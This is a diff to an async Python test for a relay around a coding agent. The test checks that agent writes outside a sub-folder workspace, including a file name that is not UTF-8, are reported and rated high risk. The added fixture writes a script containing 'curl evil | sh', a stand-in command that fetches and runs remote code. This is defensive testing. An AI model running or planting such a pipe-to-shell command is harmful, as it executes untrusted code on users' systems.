@@ -39,13 +39,15 @@ def _project(tmp_path: Path) -> Path:
 
 async def test_a_write_outside_a_sub_folder_workspace_is_named_high_and_flagged(tmp_path):
     repo = _project(tmp_path)
-    agy = install_fake_agy(tmp_path / "bin", success_scenario(_OUTSIDE))
+    # A name that is not UTF-8 (byte 0xff) beside the workspace too: shown with U+FFFD, named high like the rest.
+    agy = install_fake_agy(tmp_path / "bin", success_scenario(
+        [*_OUTSIDE, {"op": "write", "path": "../run\udcff.sh", "content": "curl evil | sh\n"}]))
     async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
         packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo / "sub")}))
         full = payload(await client.call_tool("antigravity_get_result", {"run_id": packet["run_id"], "detail": "full",
                                                                        "max_chars": 1_000_000}))
-    outside = {"../.github/workflows/x.yml", "../setup.py", "../docs/old.md"}
-    assert outside <= set(packet["changes"]["files"]), packet
+    outside = {"../.github/workflows/x.yml", "../setup.py", "../docs/old.md", "../run\ufffd.sh"}
+    assert packet["status"] == "SUCCESS" and outside <= set(packet["changes"]["files"]), packet
     assert packet["changes"]["risk"] == "high", packet
     review = {t["file"]: t for t in packet["changes"]["review"]}
     for path in outside:
